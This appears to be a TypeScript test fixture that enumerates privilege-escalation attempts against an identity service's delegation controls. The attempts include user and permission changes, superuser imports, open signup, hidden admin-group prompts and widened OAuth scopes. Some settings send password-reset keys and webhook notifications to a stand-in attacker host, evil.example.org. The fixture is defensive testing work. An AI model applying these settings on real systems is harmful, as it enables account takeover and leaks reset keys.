/** Longer ways to more rights that delegates try: by files, settings, hosts, expressions, and by changing what was harmless when it was made. */

import { setTimeout as sleep } from 'node:timers/promises';
import { auth, directory, providers, tasks } from '@postern/proto';
import type { Origin } from '@postern/rpc';
import type { RunningProcess } from '@postern/service';
import { type Action, whole } from './delegation-actions.fixture.ts';

/** Names of what every world has. */
const USERS = ['one', 'two', 'three', 'root', 'keeper', 'holder', 'plain'] as const;
const GROUPS = ['admins', 'keepers', 'plain', 'below'] as const;
const ROLES = ['keeping', 'empty'] as const;

/** Every detour, by name. */
export function detoursOf(running: RunningProcess): Readonly<Record<string, Action>> {
  return {
    ...accountDetours(running),
    ...fileDetours(running),
    ...houseDetours(running),
    ...expressionDetours(running),
    ...linkDetours(running),
  };
}

function accountDetours({ client }: RunningProcess): Record<string, Action> {
  const users = client(directory.UserServiceDefinition);
  const offBoarding = client(directory.OffBoardingServiceDefinition);
  const assignments = client(directory.PermissionAssignmentServiceDefinition);
  const recovery = client(auth.UserRecoveryServiceDefinition);
  return {
    // Whoever ends, removes or renames somebody must be able to do what they can.
    async offBoard({ users: pks }, dice, origin) {
      const user = dice(pks) ?? 0;
      await offBoarding.offBoardUser({ id: user }, origin);
      return { user };
    },
    async deleteUser({ users: pks }, dice, origin) {
      const user = dice(pks) ?? 0;
      await users.deleteUser({ id: user }, origin);
      return { user };
    },
    async changeUser({ users: pks }, dice, origin) {
      const user = dice(pks) ?? 0;
      const field = dice(['username', 'attributes', 'is_active', 'type'] as const) ?? 'username';
      const values = { username: dice.word(), attributes: { a: dice.word() }, is_active: false, type: 'external' };
      await users.updateUser({ id: user, user: values, update_mask: [field] }, origin);
      return { user };
    },
    async assignOnUser({ users: pks }, dice, origin) {
      const permissions = [dice(['reset_user_password', 'impersonate', 'change_user']) ?? ''];
      const assignment = { permissions, model: 'authentik_core.user', object_pk: String(dice(pks) ?? 0) };
      await assignments.assignUserPermissions({ id: dice(pks) ?? 0, assignment }, origin);
      return undefined;
    },
    async assignRoleOnUser({ users: pks, roles }, dice, origin) {
      const permissions = [dice(['reset_user_password', 'impersonate', 'change_user']) ?? ''];
      const assignment = { permissions, model: 'authentik_core.user', object_pk: String(dice(pks) ?? 0) };
      await assignments.assignRolePermissions({ uuid: dice(roles) ?? '', assignment }, origin);
      return undefined;
    },
    // The mail goes to the user themselves, and to nobody else.
    async recoveryMail({ users: pks, stages }, dice, origin) {
      await recovery.sendUserRecoveryEmail({ id: dice(pks) ?? 0, email_stage: dice(stages) ?? '' }, origin);
      return undefined;
    },
  };
}

function fileDetours({ client }: RunningProcess): Record<string, Action> {
  const imports = client(directory.DirectoryImportServiceDefinition);

  /** Imports one row, and waits until it was looked at. */
  async function take(kind: string, row: object, origin: Origin): Promise<undefined> {
    const { pk: id } = await imports.createDirectoryImport({ import: { kind, format: 'jsonl' } }, origin);
    await imports.uploadDirectoryImportPart({ id, number: 1, content: `${JSON.stringify(row)}\n` }, origin);
    await imports.startDirectoryImport({ id }, origin);
    for (let attempt = 0; attempt < 1_000; attempt += 1) {
      const { status } = await imports.getDirectoryImport({ id }, origin);
      if (status === 'done' || status === 'failed') return undefined;
      await sleep(20);
    }
    throw new Error('an import did not end');
  }
  return {
    async importUser(_choices, dice, origin) {
      const username = dice([...USERS, dice.word()]) ?? '';
      const values = { groups: [dice(GROUPS)], email: `${dice.word()}@example.org`, is_active: dice.chance(0.5) };
      const field = dice(['groups', 'email', 'is_active'] as const) ?? 'groups';
      return take('users', { username, [field]: values[field] }, origin);
    },
    async importGroup(_choices, dice, origin) {
      const values = { is_superuser: true, parent: dice(GROUPS), roles: [dice(ROLES)] };
      const field = dice(['is_superuser', 'parent', 'roles'] as const) ?? 'roles';
      return take('groups', { name: dice([...GROUPS, dice.word()]), [field]: values[field] }, origin);
    },
    async importRole({ permissions }, dice, origin) {
      return take('roles', { name: dice([...ROLES, dice.word()]), permissions: [dice(permissions)] }, origin);
    },
  };
}

function houseDetours({ client }: RunningProcess): Record<string, Action> {
  const brands = client(directory.BrandServiceDefinition);
  const settings = client(directory.SettingsServiceDefinition);
  const headless = client(auth.HeadlessSettingsServiceDefinition);
  const registry = client(directory.TenantRegistryServiceDefinition);
  const domains = client(directory.DomainServiceDefinition);
  return {
    async brandFlows({ flows }, dice, origin) {
      const flow = dice(flows)?.pk;
      const ways = { flow_authentication: flow, flow_recovery: flow, flow_user_settings: flow };
      const domain = `${dice.word()}.example.org`;
      await brands.createBrand({ brand: { ...whole('directory.v1.Brand'), domain, ...ways } }, origin);
      return undefined;
    },
    async settings(_choices, _dice, origin) {
      const update_mask = ['impersonation', 'default_user_change_email'];
      await settings.updateSettings(
        { settings: { impersonation: true, default_user_change_email: true }, update_mask },
        origin,
      );
      return undefined;
    },
    async signUpGroup({ groups }, dice, origin) {
      const group = dice(groups) ?? '';
      const change = { settings: { signup_group: group }, update_mask: ['signup_group'] };
      await headless.updateHeadlessSettings(change, origin);
      return { group };
    },
    async signUpWays(_choices, _dice, origin) {
      const change = { settings: { signup_open: true }, update_mask: ['signup_open'] };
      await headless.updateHeadlessSettings(change, origin);
      return undefined;
    },
    async headlessTrust(_choices, dice, origin) {
      const field = dice(['frontend_urls', 'trusted_origins', 'social_email_authentication'] as const);
      const values = {
        frontend_urls: { account_reset_password_from_key: 'https://evil.example.org/{key}' },
        trusted_origins: ['https://evil.example.org'],
        social_email_authentication: true,
      };
      await headless.updateHeadlessSettings({ settings: values, update_mask: [field ?? 'frontend_urls'] }, origin);
      return { anything: true };
    },
    async foundTenant(_choices, dice, origin) {
      const name = dice.word();
      await registry.foundTenant({ tenant: { name, schema_name: `t_${name}`, ready: true } }, origin);
      return { anything: true };
    },
    async takeHost(_choices, dice, origin) {
      const tenant = '00000000-0000-7000-8000-000000000001';
      await domains.addDomain({ host: { domain: `${dice.word()}.example.org`, is_primary: true, tenant } }, origin);
      return { anything: true };
    },
  };
}

function expressionDetours({ client }: RunningProcess): Record<string, Action> {
  const policies = client(auth.ExpressionPolicyServiceDefinition);
  const bindings = client(auth.PolicyBindingServiceDefinition);
  const prompts = client(auth.PromptServiceDefinition);
  const promptStages = client(auth.PromptStageServiceDefinition);
  const webhookMappings = client(tasks.NotificationWebhookMappingServiceDefinition);
  const transports = client(tasks.NotificationTransportServiceDefinition);
  // What a program says is for the sandbox; here it matters who may bring one, and it should cost no interpreter.
  return {
    async policy(_choices, dice, origin) {
      const expression_policy = { name: dice.word(), expression: 'return True' };
      const { pk } = await policies.createExpressionPolicy({ expression_policy }, origin);
      const change = { expression_policy: { expression: 'return False' }, update_mask: ['expression'] };
      await policies.updateExpressionPolicy({ policy_uuid: pk, ...change }, origin);
      return undefined;
    },
    async bindPolicy({ flows, given, groups }, dice, origin) {
      const binding = { target: dice(flows)?.pk ?? '', group: dice(groups), order: 0 };
      await bindings.createPolicyBinding({ policy_binding: { ...whole('auth.v1.PolicyBinding'), ...binding } }, origin);
      return { group: dice(given) };
    },
    async promptStage({ given }, dice, origin) {
      const field = { name: dice.word(), field_key: 'groups', label: 'g', type: 'hidden' };
      const prompt = { ...whole('auth.v1.Prompt'), ...field, initial_value: 'admins' };
      const { pk } = await prompts.createPrompt({ prompt }, origin);
      await promptStages.createPromptStage({ prompt_stage: { name: dice.word(), fields: [pk] } }, origin);
      return { group: dice(given) };
    },
    async webhook(_choices, dice, origin) {
      const notification_webhook_mapping = { name: dice.word(), expression: 'return {}' };
      const { pk } = await webhookMappings.createNotificationWebhookMapping({ notification_webhook_mapping }, origin);
      const way = { mode: 'webhook', webhook_url: 'https://evil.example.org/', webhook_mapping: pk };
      const notification_transport = { ...whole('tasks.v1.NotificationTransport'), name: dice.word(), ...way };
      await transports.createNotificationTransport({ notification_transport }, origin);
      return undefined;
    },
  };
}

/** What was harmless when it was made. */
function linkDetours({ client }: RunningProcess): Record<string, Action> {
  const mappings = client(providers.ScopeMappingServiceDefinition);
  const clients = client(providers.OAuth2ProviderServiceDefinition);
  const sources = client(providers.OAuthSourceServiceDefinition);
  const together = client(providers.TransactionalApplicationServiceDefinition);
  return {
    async widenScope({ flows }, dice, origin) {
      const name = dice.word();
      const scope_mapping = { name, scope_name: name, expression: 'return {}' };
      const { pk } = await mappings.createScopeMapping({ scope_mapping }, origin);
      const mine = { name, authorization_flow: dice(flows)?.pk ?? '', property_mappings: [pk] };
      await clients.createOAuth2Provider(
        { oauth2_provider: { ...whole('providers.v1.OAuth2Provider'), ...mine } },
        origin,
      );
      const change = { scope_mapping: { scope_name: 'goauthentik.io/api' }, update_mask: ['scope_name'] };
      await mappings.updateScopeMapping({ pm_uuid: pk, ...change }, origin);
      return { anything: true };
    },
    async widenSource(_choices, dice, origin) {
      const slug = dice.word();
      const keys = { provider_type: 'openidconnect', consumer_key: 'x', consumer_secret: 'x' };
      const urls = {
        authorization_url: 'https://idp.example.org/',
        access_token_url: 'https://idp.example.org/t',
        profile_url: 'https://idp.example.org/u',
      };
      const source = { ...whole('providers.v1.OAuthSource'), name: slug, slug, ...keys, ...urls };
      await sources.createOAuthSource({ oauth_source: { ...source, user_matching_mode: 'identifier' } }, origin);
      const change = { oauth_source: { user_matching_mode: 'email_link' }, update_mask: ['user_matching_mode'] };
      await sources.updateOAuthSource({ slug, ...change }, origin);
      return { anything: true };
    },
    async applicationAndProvider({ flows }, dice, origin) {
      const name = dice.word();
      const app = { ...whole('providers.v1.Application'), name, slug: name };
      const provider = { name, authorization_flow: dice(flows)?.pk ?? '' };
      const provider_model = 'authentik_providers_oauth2.oauth2provider';
      await together.createApplicationWithProvider({ app, provider, provider_model }, origin);
      return { anything: true };
    },
  };
}
